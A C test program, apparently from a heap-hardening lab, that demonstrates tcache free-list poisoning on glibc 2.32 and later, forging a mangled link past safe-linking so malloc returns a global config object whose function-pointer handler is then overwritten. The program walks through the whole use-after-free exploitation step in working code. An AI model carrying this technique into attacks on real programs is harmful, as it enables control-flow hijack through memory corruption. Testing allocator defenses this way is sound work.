/* Free-list poisoning (tcache poisoning): a stale pointer to a freed block is written
 * through, overwriting the free list's link. glibc 2.32+ mangles links ("safe-linking"), so
 * the attacker uses the block's own address (leaked through the same stale pointer) to
 * mangle the target. Two allocations later malloc returns the address of a global
 * configuration object, and the program copies request data into it. */
#include "lab.h"

static struct {
    void (*handler)(void);
    char pad[0x28];
} __attribute__((aligned(16))) config;

static void handle_normally(void) { puts("request handled normally"); }
static void win(void) { pwned("malloc returned a global object and the request overwrote its handler"); }

int main(void) {
    lab_init();
    config.handler = handle_normally;
    char *a = alloc_typed(0x28, DATA_TYPE(16));
    char *b = alloc_typed(0x28, DATA_TYPE(16));
    free(a);
    free(b);
    /* The bug: a stale pointer to b is written through. */
    uintptr_t link = ((uintptr_t)b >> 12) ^ (uintptr_t)&config;
    copy_bytes(b, &link, sizeof link);
    char *c = alloc_typed(0x28, DATA_TYPE(16));
    char *d = alloc_typed(0x28, DATA_TYPE(16)); /* on glibc: &config */
    void (*target)(void) = win;
    memcpy(d, &target, 8); /* the program stores request data in its new buffer */
    config.handler();
    keep_working(0x28, DATA_TYPE(16));
    free(c);
    free(d);
    noeffect("malloc did not return the global object");
    return 0;
}
